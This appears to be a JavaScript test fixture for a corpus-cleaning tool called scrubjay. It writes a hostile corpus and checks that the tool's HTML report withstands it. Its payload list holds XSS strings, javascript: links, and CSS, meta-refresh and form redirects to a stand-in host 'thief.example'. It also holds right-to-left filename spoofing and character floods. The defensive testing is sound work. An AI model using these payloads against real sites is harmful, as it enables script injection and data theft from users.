// A corpus that attacks whoever looks at it: in its texts, in the names of documents, in the names of sites.

import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";

export const root = resolve(import.meta.dirname, "../..");
export const program = process.env.SCRUBJAY || join(root, "target/debug/scrubjay");

const run = "window.pwned=(window.pwned||0)+1";
export const payloads = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</ScRiPt ><img src=x onerror="${run}">`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}><animate onbegin=${run} attributeName=x>`,
  `"><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<a href="javascript:${run}">press</a>`,
  `<style>*{display:none!important}@import url(https://thief.example/x)</style>`,
  `</style><link rel=stylesheet href=https://thief.example/y>`,
  `<meta http-equiv=refresh content="0;url=https://thief.example/">`,
  `<base href=https://thief.example/><form action=https://thief.example/><button autofocus>go`,
  `<!--<script>--><script>${run}//`,
  `<![CDATA[</script><script>${run}</script>]]>`,
  `\u2028;${run};\u2029</script>`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e {{data}} {{script}} \${${run}}`,
  `'";];}}${run};({["a"+"`,
  `\u202e\u2066gnp.\u2067exe \u202d\u200f turned round`,
  `Z\u0301\u0302\u0303${"\u0336\u0488\u20dd\u0315".repeat(200)}algo`,
  `${"W".repeat(5000)}`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red" id=main class=top onclick=${run}>covered</div><noscript><plaintext><xmp>`,
];

const prose = "The ferry to Brindle Quay runs again from Monday, after eleven weeks in which the baker rowed to work and the post came late.";

/// A file name out of anything: no slash, not too long.
const fileName = (text) => [...text.replaceAll("/", "∕").replaceAll("\0", "")].slice(0, 60).join("");

export const scrub = (place, args, codes = [0]) => {
  try {
    return execFileSync(program, args, { cwd: place, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
  } catch (error) {
    if (codes.includes(error.status)) return error.stdout;
    throw new Error(`scrubjay ${args.join(" ")}: ${error.status}\n${error.stdout}${error.stderr}`);
  }
};

/// Makes the corpus, cleans it, and writes its report.
export const hostile = () => {
  const place = mkdtempSync(join(tmpdir(), "scrubjay-hostile-"));
  const put = (path, text) => {
    mkdirSync(dirname(join(place, path)), { recursive: true });
    writeFileSync(join(place, path), text);
  };
  payloads.forEach((payload, n) => {
    // In a text: kept, within a line that goes, and as a line that recurs on the site.
    put(`raw/texts.example/${n}.txt`, `${prose}\n\n${payload}\n\nShare this: ${payload} | WhatsApp | Email\n\n${prose} ${n}  \n\n\n\n${payload}\n`);
    put(`raw/names.example/${n} ${fileName(payload)}.txt`, `${prose}  \n\nShare this: Facebook | WhatsApp | Email\n`);
    for (let i = 0; i < 5; i += 1) put(`raw/${n} ${fileName(payload)}/${i}.txt`, `${payload}\nThe Post of ${payload.slice(0, 100)}\n\n${prose} ${n} ${i}\n\n${prose} ${i}\n`);
  });
  scrub(place, ["clean", "-q"], [0, 1]);
  scrub(place, ["report", "-o", "report.html"]);
  return place;
};
